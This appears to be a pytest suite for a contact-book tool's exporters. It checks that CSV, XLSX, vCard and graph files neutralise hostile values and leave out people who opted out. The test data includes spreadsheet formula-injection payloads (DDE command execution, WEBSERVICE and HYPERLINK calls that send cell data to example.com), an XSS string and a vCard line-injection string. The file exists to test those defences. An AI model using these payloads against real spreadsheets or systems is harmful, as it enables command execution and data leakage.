"""Lists that leave: nothing in them runs, nobody is on them who asked not to be, and a whole book comes back equal."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import stat
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import networkx as nx
import openpyxl
import pytest
from click.testing import CliRunner, Result
from hypothesis import given, settings
from hypothesis import strategies as st
from snapshots import AS_OF, EGO, ME, MemorySnapshot, book_events, meetings

from refnet.analysis.advocates import advocates
from refnet.book import Book, new_book, open_book
from refnet.cli import main
from refnet.errors import RefnetError, UnreadableFileError
from refnet.export.cells import Table, as_csv, as_xlsx, cell
from refnet.export.graphs import as_gexf, as_graphml, graph_of
from refnet.export.lists import Listing, advocates_list
from refnet.export.saving import save
from refnet.export.vcard import as_vcards, fold_line
from refnet.export.whole import FORMS, export_book, form_of
from refnet.ingest import decide, enter
from refnet.ingest.marks import FORGOTTEN, Marks
from refnet.ingest.moving import bring
from refnet.model import FLAGS, Address, Employment, Event, Flag, Interaction, Note, Person, PersonId, Referral
from refnet.records import EventRecord, Mention, PersonRecord, Source
from refnet.stores import archive

NOW = datetime(2026, 11, 1, 9, 30, tzinfo=UTC)
OWNER_AS_EGO = Mention(me=True, record="owner:me")
FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.com/?x="&A1,"click")',
    '=IMPORTXML("https://example.com/","//a")',
    '=WEBSERVICE("https://example.com/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "|calc",
    "%0A=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060 \u200d@SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    '"=1+1',
    'Dana;=1+1;"',
    'Dana;"=1+1&";"',
    "Dana\n=1+1\nOkafor",
    "Dana\t=1+1\tOkafor",
    "+1-555-0100+cmd|x",
    "-1",
)
HOSTILE = (
    *FORMULAS,
    '<script>alert("x")</script> & "quotes" \'and\' ]]>',
    "a\x00b\x1b[31mc\x0bd\u2028e\ufffff",
    "Okafor; Dana, \\n\r\nEND:VCARD\r\nBEGIN:VCARD",
    "اسم",
    "👩‍👩‍👧 Zoë " * 30,
    "&lt;!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "NA",
    "007",
)
_RUNS = re.compile(r"[=+\-@|%＝﹦＋－＠]")


def somebody(number: int, name: str, **values: Any) -> Person:
    return Person(PersonId(f"p{number:03}"), name, **values)


def listing_of(people: list[Person]) -> Listing:
    """The list of advocates in a book in which each of these people gave the owner a referral that was won."""
    events: list[Event[PersonId]] = []
    for person in people:
        events += meetings(EGO, person.id, 20)
        prospect = PersonId(f"x{person.id}")
        events.append(Referral(person.id, prospect, EGO, date(2026, 6, 1), "won", value_cents=125000, currency="EUR"))
    prospects = [Person(PersonId(f"x{person.id}"), "Prospect") for person in people]
    snapshot = MemorySnapshot([ME, *people, *prospects], book_events(*events))
    return advocates_list(advocates(snapshot, EGO), snapshot)


def cells(content: bytes, delimiter: str = ",") -> list[str]:
    text = content.decode("utf-8-sig")
    return [found for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for found in row]


# ------------------------------------------------------------------------------------------------ CSV and XLSX


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_csv_begins_like_a_formula_whatever_the_reader_takes_for_a_separator(
    formula: str, delimiter: str
) -> None:
    content = as_csv(Table("People", ("name", "company"), ((formula, formula), ("Bo", formula))))
    for found in cells(content, delimiter):
        shown = re.sub(r'^[\s"\u00a0\u200b-\u200f\u2060\ufeff]+', "", found)
        assert not _RUNS.match(shown), (found, content)
        assert not found.startswith(("\t", "\r", "\n"))


def test_no_cell_of_a_workbook_is_a_formula_and_the_text_stays_as_it_is() -> None:
    content = as_xlsx(Table("People", ("=1+1",), tuple((formula,) for formula in FORMULAS)))
    read = [row[0] for row in openpyxl.load_workbook(io.BytesIO(content)).active]
    assert {found.data_type for found in read} == {"s"}
    # XML reads a carriage return as a line break
    assert [found.value for found in read[1:]] == [formula.replace("\r", "\n") for formula in FORMULAS]


@pytest.mark.parametrize(
    ("written", "found"),
    [
        ("+1 555 010-0199", "+1 555 010-0199"),
        ("+49 (0)30 555 0142", "+49 (0)30 555 0142"),
        ("+1-555-010-0199", "+1 555 010 0199"),
        ("+1.555.010.0199", "+1 555 010 0199"),
        ("+15550100199", "+1 555 010 0199"),
        ("+4930555014299", "+49 30 555014299"),
        ("+999999999", "+99 9999999"),
        ("0049 30 5550142", "0049 30 5550142"),
        ("030/5550142", "030/5550142"),
        ("007", "007"),
        ("00501", "00501"),
        ("(555) 010-0199", "(555) 010-0199"),
    ],
)
def test_phone_numbers_and_leading_zeros_survive(written: str, found: str) -> None:
    assert cell(written) == found
    assert re.sub(r"\D", "", found) == re.sub(r"\D", "", written)
    read = openpyxl.load_workbook(io.BytesIO(as_xlsx(Table("People", ("phone",), ((written,),))))).active["A2"]
    assert (read.value, read.data_type) == (written, "s")


@given(st.text())
def test_a_cell_says_what_the_text_says(text: str) -> None:
    """Apart from apostrophes, and from characters that no file may hold."""
    plain = "".join(c if c in "\t\n\r" or (c >= " " and c not in "\ufffe\uffff") else "\ufffd" for c in text)
    assert cell(text).replace("'", "") == plain.replace("'", "")


def test_a_very_long_run_of_blanks_takes_no_time() -> None:
    assert len(cell(" ;\n" * 100_000)) == 300_000


def test_money_is_one_column_a_currency() -> None:
    listing = listing_of([somebody(1, "Dana Okafor")])
    row = dict(zip(listing.table.header, listing.table.rows[0], strict=True))
    assert (row["Name"], row["Won"], row["Value EUR"]) == ("Dana Okafor", "1", "1250.00")


# ---------------------------------------------------------------------------------------------------- cards


def test_a_card_has_what_is_needed_to_reach_somebody_and_nothing_that_was_noted() -> None:
    person = somebody(
        1,
        "Dana Okafor",
        emails=("dana@example.com",),
        phones=("+1 555 0100",),
        jobs=(Employment("Larkspur, Hotels", "Head; purchasing"),),
        addresses=(Address(street="1 High St", city="Corvale"),),
        notes=("likes linen",),
    )
    assert as_vcards([person]).decode().split("\r\n") == [
        "BEGIN:VCARD",
        "VERSION:3.0",
        "UID:p001",
        "FN:Dana Okafor",
        "N:;Dana Okafor;;;",
        "ORG:Larkspur\\, Hotels",
        "TITLE:Head\\; purchasing",
        "EMAIL;TYPE=INTERNET:dana@example.com",
        "TEL:+1 555 0100",
        "ADR:;;1 High St;Corvale;;;",
        "END:VCARD",
        "",
    ]
    assert b"VERSION:4.0\r\n" in as_vcards([person], version="4.0")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_stays_one_value_of_one_card(name: str) -> None:
    text = as_vcards([somebody(1, name)]).decode()
    lines = text.split("\r\n")
    assert all(len(line.encode()) <= 75 for line in lines)
    whole = text.replace("\r\n ", "").split("\r\n")
    assert [line.split(":")[0] for line in whole] == ["BEGIN", "VERSION", "UID", "FN", "N", "END", ""]
    assert not re.search("[\x00-\x08\x0b-\x1f\x85\u2028\u2029]", text.replace("\r\n", ""))


@given(st.text(alphabet=st.characters(exclude_characters="\r\n", exclude_categories=["Cs"])))
def test_a_folded_line_is_unfolded_to_itself(line: str) -> None:
    assert fold_line(line).replace("\r\n ", "") == f"{line}\r\n"


def test_cards_come_back_by_import(tmp_path: Path) -> None:
    people = [somebody(n, name) for n, name in enumerate(["Dana Okafor", "Bo; Lind\\qvist, Jr", "Zoë " + "long " * 40])]
    (tmp_path / "cards.vcf").write_bytes(as_vcards(people))
    with new_book("memory:", "Maya Castellan", now=NOW) as book:
        assert book.import_file(tmp_path / "cards.vcf", now=NOW).used == 3
        assert {p.name for p in book.people()} >= {" ".join(p.name.split()) for p in people}


# --------------------------------------------------------------------------------------------------- graphs


@pytest.mark.parametrize("form", ["graphml", "gexf"])
def test_a_graph_is_read_by_networkx_with_names_and_strengths(form: str, tmp_path: Path) -> None:
    people = [ME, *(somebody(n, name, jobs=(Employment(name),)) for n, name in enumerate(HOSTILE))]
    events = [event for person in people[1:] for event in meetings(EGO, person.id, 20, 90)]
    snapshot = MemorySnapshot(people, book_events(*events))
    graph = graph_of(people, snapshot, EGO)
    path = tmp_path / f"book.{form}"
    path.write_bytes(as_graphml(graph) if form == "graphml" else as_gexf(graph))
    read = nx.read_graphml(path) if form == "graphml" else nx.read_gexf(path)
    assert not read.is_directed() and set(read) == {person.id for person in people}
    legal = str.maketrans(dict.fromkeys([*range(9), 11, 12, *range(14, 32), 0xFFFE, 0xFFFF], "\ufffd"))
    for person in people:
        name = person.name.translate(legal)
        # networkx takes the blanks around a text of GraphML away
        assert read.nodes[person.id]["name"].strip() == name.strip()
        assert read.nodes[person.id]["ego"] is (person.id == EGO)
    for tie in snapshot.ties_of(EGO):
        assert read.edges[tie.a, tie.b]["strength"] == tie.strength.value
    assert read.number_of_edges() == len(HOSTILE)
    assert b"<!DOCTYPE" not in path.read_bytes()


# ------------------------------------------------------------------------------------------------ the withheld


def test_who_asked_not_to_be_contacted_is_in_no_list_of_ten_thousand() -> None:
    """Whatever the answer holds: the list looks again at everybody."""
    numbers = random.Random(7)
    person = somebody(1, "Dana Okafor")
    answer = listing_of([person]).answer
    (line,) = answer.lines
    for _ in range(10_000):
        flags = [tuple(sorted(numbers.sample(FLAGS, numbers.randrange(3)))) for _ in range(numbers.randrange(1, 6))]
        people = [somebody(n, f"Name {n}", flags=marks) for n, marks in enumerate(flags)]
        lines = tuple(_line_of(line, person) for person in people)
        found = advocates_list(_answer_of(answer, lines), MemorySnapshot([ME, *people]))
        open_ones = [p for p in people if not {"do-not-contact", "do-not-show"} & set(p.flags)]
        asked = [p for p in people if "do-not-contact" in p.flags and "do-not-show" not in p.flags]
        assert list(found.people) == open_ones
        assert [row[0] for row in found.table.rows] == [p.name for p in open_ones]
        assert [shown.person for shown in found.answer.lines] == [p.id for p in open_ones]
        assert found.withheld == len(asked)


def _line_of(line: Any, person: Person) -> Any:
    return replace(line, person=person.id, name=person.name)


def _answer_of(answer: Any, lines: Any) -> Any:
    return replace(answer, lines=lines)


@pytest.mark.parametrize("form", [".zip", ".graphml", ".gexf"])
def test_nobody_who_asked_not_to_be_is_in_a_table_or_graph(form: str) -> None:
    names = {"do-not-contact": "Petra Silent", "do-not-show": "Quirin Hidden", "do-not-ask": "Rosa Askless"}
    with new_book("memory:", "Maya Castellan", now=NOW) as book:
        told: list[Any] = [PersonRecord(f"owner:{f}", "row", name=name, flags=(f,)) for f, name in names.items()]
        others = tuple(Mention(name=name, record=f"owner:{flag}") for flag, name in names.items())
        told += [
            EventRecord(f"owner:e{n}", "row", Interaction(date(2026, 1, n + 1), (OWNER_AS_EGO, other), note=other.name))
            for n, other in enumerate(others)
        ]
        told.append(EventRecord("owner:n", "row", Note(others[0], date(2026, 2, 1), "Petra Silent moved")))
        enter(book.store, told, now=NOW)
        decide(book.store, "different", [("owner:do-not-contact", "owner:do-not-ask")], now=NOW)
        made = export_book(book.store, book.snapshot(AS_OF), book.ego, form)
    text = made.content
    if form == ".zip":
        with zipfile.ZipFile(io.BytesIO(made.content)) as file:
            text = b"".join(file.read(name) for name in file.namelist() if name.endswith(".csv"))
            assert names["do-not-contact"].encode() in file.read("book.json")
    assert names["do-not-ask"].encode() in text and made.withheld == 1
    assert not re.search(rb"Petra|Silent|Quirin|Hidden|owner:do-not-contact", text)


# ------------------------------------------------------------------------------------------------ a whole book


@pytest.fixture(scope="module")
def sample(sample_book: Path) -> Any:
    with open_book(sample_book) as book:
        yield book


@pytest.mark.parametrize("form", [".json", ".zip"])
def test_a_book_that_is_exported_and_imported_gives_the_same_answers(form: str, sample: Book, tmp_path: Path) -> None:
    day = sample.story_day or AS_OF
    path = tmp_path / f"sample{form}"
    save(path, export_book(sample.store, sample.snapshot(day), sample.ego, form).content)
    with new_book(tmp_path / "new.refnet", "Somebody Else", ["else@example.com"], now=NOW) as book:
        report = book.import_file(path, now=NOW)
        assert report.importer == "refnet.book" and report.rows == report.used > 0
        assert book.store.dump() == sample.store.dump()
        assert book.store.said() == sample.store.said()
        assert book.advocates(day) == sample.advocates(day)
        assert book.today(day) == sample.today(day)
        assert book.paths("Dana Okafor", as_of=day) == sample.paths("Dana Okafor", as_of=day)
        # The same book again is nothing new; what is done afterwards is done to a book like any other
        revision = book.revision
        assert book.import_file(path, now=NOW).known and book.revision == revision


def test_an_import_of_the_old_book_can_be_undone_in_the_new_one(tmp_path: Path) -> None:
    with new_book("memory:", "Maya Castellan", now=NOW) as old, new_book("memory:", "X Y", now=NOW) as new:
        for number, names in enumerate((["Dana Okafor", "Bo Lind"], ["Cy Doe", "Bo Lind", "Dana Okafor"])):
            path = tmp_path / f"contacts{number}.csv"
            path.write_text("\n".join(["Name,Email", *(f"{n},{n.split()[0]}@example.com" for n in names)]))
            old.import_file(path, now=NOW)
        save(tmp_path / "old.json", archive.to_json(old.store.said()))
        new.import_file(tmp_path / "old.json", now=NOW)
        first = old.sources()[0].import_id
        for book in (old, new):
            book.undo(first, now=NOW)
        assert new.store.said() == old.store.said() and new.store.dump() == old.store.dump()


names = st.sampled_from(["Dana Okafor", "Bo Lind", "Cy Doe", "=1+1", "Zoë 🦊", "x\ny"])
people_records = st.builds(
    lambda n, name, mails: PersonRecord(f"owner:p{n}", "row 1", name=name, emails=mails),
    st.integers(0, 5),
    names,
    st.lists(st.sampled_from(["a@example.com", "b@example.com"]), max_size=2).map(tuple),
)
event_records = st.builds(
    lambda n, who, day: EventRecord(f"owner:e{n}", "row 2", Interaction(day, (OWNER_AS_EGO, Mention(name=who)))),
    st.integers(0, 9),
    names,
    st.dates(date(2020, 1, 1), date(2026, 1, 1)) | st.none(),
)


@given(st.lists(people_records | event_records, min_size=1, max_size=12), st.data())
@settings(max_examples=60)
def test_whatever_is_in_a_book_comes_back(records: list[Any], data: st.DataObject) -> None:
    with new_book("memory:", "Maya Castellan", now=NOW, settings={"sample": "yes"}) as old:
        enter(old.store, records, now=NOW)
        keys = sorted({r.key for r in records if isinstance(r, PersonRecord)})
        if len(keys) > 1:
            pair = data.draw(st.permutations(keys))[:2]
            decide(old.store, data.draw(st.sampled_from(["same", "different"])), [(pair[0], pair[1])], now=NOW)
        content = archive.to_json(old.store.said())
        assert archive.from_json(content, "book.json") == old.store.said()
        with new_book("memory:", "Somebody Else", now=NOW, settings={"other": "gone"}) as new:
            bring(new.store, Source(Path("book.json"), "book.json", content), now=NOW)
            assert new.store.dump() == old.store.dump()
            # A decision of the new book takes no place of one that came along
            if len(keys) > 1:
                decide(new.store, "same", [(keys[0], keys[1])], now=datetime(2026, 12, 1, tzinfo=UTC))
                assert len(new.store.decisions()) == len(old.store.decisions()) + 1


def test_a_whole_book_does_not_go_into_one_with_something_in_it(tmp_path: Path) -> None:
    with new_book("memory:", "Maya Castellan", now=NOW) as book:
        save(tmp_path / "book.json", archive.to_json(book.store.said()))
        enter(book.store, [PersonRecord("owner:x", "row", name="Dana Okafor")], now=NOW)
        before = book.store.dump()
        with pytest.raises(RefnetError, match="whole book") as raised:
            book.import_file(tmp_path / "book.json", now=NOW)
        assert "refnet new" in raised.value.fix and book.store.dump() == before


def test_a_whole_book_does_not_bring_back_who_was_forgotten(tmp_path: Path) -> None:
    with new_book("memory:", "Maya Castellan", now=NOW) as book:
        save(tmp_path / "book.json", archive.to_json(book.store.said()))
        enter(book.store, [], now=NOW, settings={FORGOTTEN: Marks(b"secret", {"a mark": "somebody:1"}).setting})
        with pytest.raises(RefnetError, match="whole book"):
            book.import_file(tmp_path / "book.json", now=NOW)


def test_a_dry_run_brings_nothing(tmp_path: Path) -> None:
    with new_book("memory:", "Maya Castellan", now=NOW) as old, new_book("memory:", "X Y", now=NOW) as new:
        enter(old.store, [PersonRecord("owner:x", "row", name="Dana Okafor")], now=NOW)
        save(tmp_path / "book.json", archive.to_json(old.store.said()))
        before = new.store.dump()
        assert new.import_file(tmp_path / "book.json", now=NOW, dry_run=True).new_people == 2
        assert new.store.dump() == before


def test_a_book_of_json_that_somebody_changed_is_refused_with_a_sentence(tmp_path: Path) -> None:
    with new_book("memory:", "Maya Castellan", now=NOW) as book:
        content = archive.to_json(book.store.said())
    whole = json.loads(content)
    broken = [
        content[:-20],
        content.replace(b'"person"', b'"spaceship"'),
        content.replace(b'"Maya Castellan"', b"7"),
        content.replace(b'"owner:me"', b"null"),
        content.replace(b'"version":1', b'"version":3'),
        content.replace(b'"version":1', b'"version":"one"'),
        content.replace(b"Maya", b"\xff\xfe"),
        json.dumps({**whole, "sources": []}, separators=(",", ":")).encode(),
        json.dumps({**whole, "sightings": {}}, separators=(",", ":")).encode(),
        json.dumps({**whole, "settings": {"story_day": "soon"}}, separators=(",", ":")).encode(),
        json.dumps({**whole, "settings": {"forgotten": "[]"}}, separators=(",", ":")).encode(),
    ]
    for content in broken:
        with new_book("memory:", "X Y", now=NOW) as book, pytest.raises(UnreadableFileError) as raised:
            bring(book.store, Source(Path("book.json"), "book.json", content), now=NOW)
        assert raised.value.message.startswith("book.json") and raised.value.fix


def test_mutated_books_raise_nothing_else(tmp_path: Path) -> None:
    with new_book("memory:", "Maya Castellan", now=NOW) as book:
        told = [EventRecord("owner:e", "row", Interaction(NOW, (OWNER_AS_EGO, Mention(name="Bo Lind")), minutes=5))]
        enter(book.store, told, now=NOW)
        content = bytearray(archive.to_json(book.store.said()))
    numbers = random.Random(11)
    for _ in range(300):
        changed = bytearray(content)
        for _ in range(numbers.randrange(1, 4)):
            changed[numbers.randrange(len(changed))] = numbers.choice(b'"{}[]:,0-9\\aeu\x00\xff')
        path = tmp_path / "book.json"
        path.write_bytes(changed)
        with new_book("memory:", "X Y", now=NOW) as book:
            try:
                book.import_file(path, now=NOW)
            except RefnetError as error:
                assert error.message and error.fix


def test_the_end_of_a_name_says_the_form() -> None:
    assert [form_of(Path(f"book{form.upper()}")) for form in FORMS] == list(FORMS)
    with pytest.raises(RefnetError, match="book.docx"):
        form_of(Path("book.docx"))


# ---------------------------------------------------------------------------------------------------- saving


def test_a_file_is_its_owners_alone_and_replaces_another_only_when_told_to(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    save(path, b"one")
    if os.name == "posix":
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with pytest.raises(RefnetError, match="already") as raised:
        save(path, b"two")
    assert "--force" in raised.value.fix and path.read_bytes() == b"one"
    save(path, b"two", force=True)
    assert path.read_bytes() == b"two" and os.listdir(tmp_path) == ["list.csv"]


def test_a_write_that_fails_leaves_the_old_file_and_nothing_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "list.csv"
    save(path, b"one")

    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(RefnetError, match="No space left"):
        save(path, b"two", force=True)
    assert path.read_bytes() == b"one" and os.listdir(tmp_path) == ["list.csv"]


@pytest.mark.parametrize("place", ["nowhere/list.csv", ".", "x" * 300])
def test_a_place_that_cannot_be_written_is_told(place: str, tmp_path: Path) -> None:
    with pytest.raises(RefnetError):
        save(tmp_path / place, b"one", force=True)


# ------------------------------------------------------------------------------------------------ the commands


def run(*words: str | Path) -> Result:
    return CliRunner().invoke(main, [str(word) for word in words])


def test_advocates_are_told_with_reasons_and_the_withheld_are_counted(sample_book: Path) -> None:
    result = run("advocates", "--book", sample_book)
    assert result.exit_code == 0 and "Imelda Sarpong" in result.stdout and "became business" in result.stdout
    assert "withheld" not in result.stdout


def test_the_withheld_are_counted_in_the_terminal_and_beside_a_file(tmp_path: Path) -> None:
    place = tmp_path / "a.refnet"
    with new_book(place, "Maya Castellan", now=NOW) as book:
        flags: tuple[tuple[Flag, ...], ...] = ((), ("do-not-contact",), ("do-not-show",))
        for n, marks in enumerate(flags):
            giver = PersonRecord(f"owner:p{n}", "row", name=f"Giver {n}", flags=marks)
            sent = Referral(Mention(record=giver.key), Mention(name=f"Prospect {n}"), OWNER_AS_EGO, date(2026, 1, 2))
            enter(book.store, [giver, EventRecord(f"owner:r{n}", "row", sent)], now=NOW)
    for more in ((), ("--csv", tmp_path / "a.csv")):
        told = run("advocates", *more, "--as-of", "2026-11-01", "--book", place).stdout
        assert told.endswith("\n1 withheld: asked not to be contacted.\n") and "Giver 1" not in told
    assert "Giver 0" in (text := (tmp_path / "a.csv").read_text("utf-8-sig")) and "Giver 1" not in text


def test_a_list_is_written_in_each_form_without_those_who_opted_out(sample_book: Path, tmp_path: Path) -> None:
    paths = [tmp_path / f"list.{form}" for form in ("csv", "xlsx", "vcf")]
    result = run("advocates", *(w for p in paths for w in (f"--{p.suffix[1:]}", p)), "--json", "--book", sample_book)
    answer = json.loads(result.stdout)
    assert result.exit_code == 0 and answer["files"] == [str(path) for path in paths]
    truth = json.loads((Path(__file__).parent.parent / "sample_data/files/truth.json").read_text())["opted_out"]
    out = {name for flag in ("do-not-show", "do-not-contact") for name in truth[flag]}
    sheet = openpyxl.load_workbook(paths[1]).active
    texts = [paths[0].read_text("utf-8-sig"), paths[2].read_text(), str(list(sheet.values))]
    assert len(answer["lines"]) == sheet.max_row - 1 == texts[1].count("BEGIN:VCARD") > 50
    assert not [name for name in out for text in (*texts, result.stdout) if name in text]
    again = run("advocates", "--csv", paths[0], "--book", sample_book)
    assert (again.exit_code, again.stdout) == (1, "") and "--force" in again.stderr
    assert run("advocates", "--csv", paths[0], "--force", "--book", sample_book).exit_code == 0


def test_an_empty_book_has_no_advocates_and_says_how_they_come(tmp_path: Path) -> None:
    new_book(tmp_path / "a.refnet", "Maya Castellan", now=NOW).close()
    result = run("advocates", "--book", tmp_path / "a.refnet")
    assert result.exit_code == 0 and "refnet log referral" in result.stdout


@pytest.mark.parametrize("form", FORMS)
def test_a_book_is_written_in_each_form_and_not_at_all_in_a_dry_run(
    form: str, sample_book: Path, tmp_path: Path
) -> None:
    path = tmp_path / f"book{form}"
    told = json.loads(run("export", path, "--dry-run", "--json", "--book", sample_book).stdout)
    assert told["bytes"] > 0 and not path.exists()
    result = run("export", path, "--book", sample_book)
    assert result.exit_code == 0 and path.stat().st_size == told["bytes"] and str(path) in result.stdout
    assert ("withheld" in result.stdout) == (form != ".json")
    assert run("export", path, "--book", sample_book).exit_code == 1


def test_export_and_import_are_two_commands(sample_book: Path, tmp_path: Path) -> None:
    new, path = tmp_path / "new.refnet", tmp_path / "book.zip"
    assert run("export", path, "--book", sample_book).exit_code == 0
    assert run("new", "--me", "Maya Castellan", "--book", new).exit_code == 0
    result = run("import", path, "--book", new)
    assert result.exit_code == 0 and "refnet.book" in result.stdout and "take it back" not in result.stdout
    assert run("people", "--json", "--book", new).stdout == run("people", "--json", "--book", sample_book).stdout
